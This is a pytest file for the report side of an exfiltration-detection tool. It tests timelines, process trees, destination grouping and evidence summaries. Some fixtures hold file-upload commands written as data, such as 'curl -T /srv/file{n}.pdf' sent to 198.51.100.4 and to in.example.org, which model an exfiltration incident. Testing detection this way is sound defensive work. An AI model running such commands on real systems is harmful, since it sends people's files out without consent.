"""The timeline, the sequence, the process tree, the destinations and the evidence of an incident."""

from datetime import timedelta

import pytest

from exfilwatch_playbooks.enrichment.model import Step
from exfilwatch_playbooks.report.destinations import destinations
from exfilwatch_playbooks.report.evidence import evidence
from exfilwatch_playbooks.report.material import Material, material
from exfilwatch_playbooks.report.story import story
from exfilwatch_playbooks.report.texts import texts
from exfilwatch_playbooks.report.timeline import WIDTH, timeline
from exfilwatch_playbooks.report.tree import tree
from exfilwatch_playbooks.report.wording import amount, lasting

from ..findings.made import START, make  # noqa: TID252 (tests are no package on the path)
from .incidents import demo, together


def of(*findings) -> Material:
    return material(together(findings), findings)


def test_bursts_far_apart_are_drawn_with_the_time_between_left_out() -> None:
    drawn = timeline(of(make("a", 0), make("b", 0.01), make("c", 50), make("d", 50.01)))
    assert [gap.said for gap in drawn.breaks] == ["49 min 59 s"]
    assert all(drawn.left < dot.x < WIDTH for dot in drawn.dots)
    assert not [dot for dot in drawn.dots for gap in drawn.breaks if gap.x < dot.x < gap.x + gap.width]


def test_events_spread_over_a_day_are_drawn_on_an_even_axis() -> None:
    drawn = timeline(of(*[make(str(hour), hour * 60) for hour in range(24)]))
    gaps = {round(b.x - a.x) for a, b in zip(drawn.dots, drawn.dots[1:], strict=False)}
    assert drawn.breaks == ()
    assert len(drawn.dots) == 24
    assert len(gaps) <= 2


def test_many_events_are_few_dots_that_count_them() -> None:
    drawn = timeline(of(*[make(str(number), number / 100) for number in range(3000)]))
    assert len(drawn.dots) < 60
    assert sum(dot.count for dot in drawn.dots) == 3000


def test_events_without_a_time_are_counted_beside_the_drawing() -> None:
    found = Material(*vars(of(make("a", 0))).values())
    with_untimed = material(found.incident, [*found.findings, make("b", None)])
    assert timeline(with_untimed).untimed == 1
    assert timeline(of(make("c", None))) is None


def test_what_repeats_is_one_step_with_a_count() -> None:
    runs = [
        make(str(n), n, CommandLine=f"curl -T /srv/file{n}.pdf http://198.51.100.4/", ProcessId=str(100 + n))
        for n in range(7)
    ]
    (step,) = story(of(*runs)).steps
    assert (step.times, step.program) == (7, "curl.exe")


def test_one_process_that_two_sources_log_is_once_in_the_tree() -> None:
    incident, findings, _ = demo("lnx-app-02")
    rows = [(row.depth, row.process.program) for row in tree(material(incident, findings)).rows if row.process]
    assert rows == [
        (0, "bash"),
        (1, "tar"),
        (0, "bash"),
        (1, "bash"),
        (2, "find"),
        (2, "curl"),
        (2, "curl"),
        (2, "curl"),
    ]


def test_a_process_id_that_is_used_again_is_another_process() -> None:
    found = tree(of(make("a", 0, ProcessId="77"), make("b", 55, ProcessId="77")))
    assert found.processes == 2


def test_processes_that_claim_to_have_started_each_other_end() -> None:
    first = make("a", 0, ProcessGuid="{A1}", ParentProcessGuid="{B2}", Image="/a", ParentImage="/b")
    second = make("b", 1, ProcessGuid="{B2}", ParentProcessGuid="{A1}", Image="/b", ParentImage="/a")
    itself = make("c", 2, ProcessGuid="{C3}", ParentProcessGuid="{C3}", Image="/c", ParentImage="/c")
    assert tree(of(first, second, itself)).processes == 3


def test_a_wide_tree_says_how_many_are_alike_and_a_deep_one_ends() -> None:
    wide = tree(of(*[make(str(n), n / 60, ProcessId=str(100 + n), ParentProcessId="99", ParentImage="/bin/sh")
                     for n in range(500)]))  # fmt: skip
    assert [row.more for row in wide.rows if row.more] == [497]
    deep = tree(of(*[make(str(n), n / 60, ProcessGuid=f"{{A{n + 1}}}", ParentProcessGuid=f"{{A{n}}}", ParentImage="/x")
                     for n in range(1, 40)]))  # fmt: skip
    assert max(row.depth for row in deep.rows) == 12
    assert deep.left_out == deep.processes - len(deep.rows)


@pytest.mark.parametrize(("process_id", "rows"), [("77", 3), ("99", 1)], ids=["with the evidence", "without it"])
def test_a_tree_that_was_looked_up_is_shown_if_the_evidence_is_in_it(process_id: str, rows: int) -> None:
    around = [
        Step(depth=depth, time=START, process_id=number, image=image, command_line=image, user="anna", evidence=False)
        for depth, number, image in ((0, "5", "/sbin/init"), (1, "76", "/bin/sh"), (2, process_id, "/usr/bin/curl"))
    ]
    found = tree(of(make("a", 0, ProcessId="0x4d", DestinationIp="198.51.100.4")), around)
    assert len(found.rows) == rows
    assert [row.process.level for row in found.rows][-1] == "medium"


def test_a_place_that_connections_reached_and_commands_name_is_one() -> None:
    connection = make("c", 1, DestinationIp="198.51.100.4", DestinationHostname="in.example.org",
                      DestinationPort="443", orig_bytes="5000", CommandLine="")  # fmt: skip
    command = make("d", 2, CommandLine="curl -T /srv/a.pdf https://in.example.org/x")
    (place,) = destinations(of(connection, command)).shown
    assert (place.said, place.connections, place.named, place.sent) == ("in.example.org (198.51.100.4)", 1, 1, 5000)
    assert list(place.ports) == ["443"]


def test_evidence_without_room_is_counted() -> None:
    found = evidence(of(*[make(str(n), n / 60, Note="z" * 700) for n in range(200)]), 40_000)
    assert found.left_out == 200 - len(found.lines)
    assert 0 < found.unfolded < len(found.lines) < 200


def test_kinds_of_commands_beyond_the_first_are_counted() -> None:
    found = texts(of(*[make(str(n), n, CommandLine=f"program{n} --option{n}") for n in range(15)]))
    assert (len(found.shown), found.more) == (10, 5)


@pytest.mark.parametrize(
    ("said", "expected"),
    [
        (amount(999), "999 bytes"),
        (amount(1_082_089), "1.08 MB"),
        (amount(999_999), "1 MB"),
        (amount(5_400_000_000), "5.4 GB"),
        (lasting(timedelta(milliseconds=40)), "40 ms"),
        (lasting(timedelta(seconds=200)), "3 min 20 s"),
        (lasting(timedelta(hours=2)), "2 h"),
        (lasting(timedelta(days=3, hours=4, minutes=9)), "3 d 4 h"),
    ],
)
def test_numbers_are_rounded_for_people(said, expected) -> None:
    assert said == expected
